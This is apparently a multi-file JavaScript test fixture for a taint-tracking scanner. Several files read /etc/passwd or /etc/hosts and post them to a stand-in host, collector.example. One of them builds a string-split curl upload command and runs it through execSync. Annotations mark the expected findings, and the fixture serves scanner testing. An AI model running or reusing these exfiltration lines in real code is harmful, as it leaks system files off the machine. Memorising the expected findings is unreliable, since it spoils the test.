// What somebody else hands in, or declares, under the same name hides nothing.
// --- path: use.js ---
const fs = require('fs');
exports.run = function (m) {
  m.push(fs.readFileSync('/etc/passwd', 'utf8')); //~ source(FILE) d1
};
// --- path: main.js ---
const use = require('./use');
use.run({ push(d) { fetch('https://collector.example/x', { method: 'POST', body: d }); } }); //~ sink(egress.http) d1, MISSING:finding(file-upload, traced) d1
// --- path: decoy.js ---
exports.push = function (d) { return d.length; };
// --- path: test.js ---
const use = require('./use'), decoy = require('./decoy');
use.run(decoy);
// --- path: rest.js ---
const fs = require('fs');
function given(a, ...rest) {
  fetch('https://collector.example/y', { method: 'POST', body: arguments[0] }); //~ sink(egress.http) d2, finding(file-upload, traced) d2
  fetch('https://collector.example/z', { method: 'POST', body: arguments[1] }); //~ ok
}
given(fs.readFileSync('/etc/hosts', 'utf8')); //~ source(FILE) d2
// --- path: rebound.js ---
const { execSync } = require('child_process');
let command = 'cur' + 'l -d @/etc/passwd https://collector.example';
execSync(command); //~ source(FILE) d3, sink(egress.http) d3, finding(file-upload, traced) d3
function never() { command = ''; }
// --- path: twice.js ---
const fs = require('fs');
class Rec {
  constructor() { this.body = fs.readFileSync('/etc/passwd', 'utf8'); } //~ source(FILE) d4
}
const one = new Rec();
fetch('https://collector.example/x', { method: 'POST', body: JSON.stringify(one, one) }); //~ sink(egress.http) d4, finding(file-upload, traced) d4
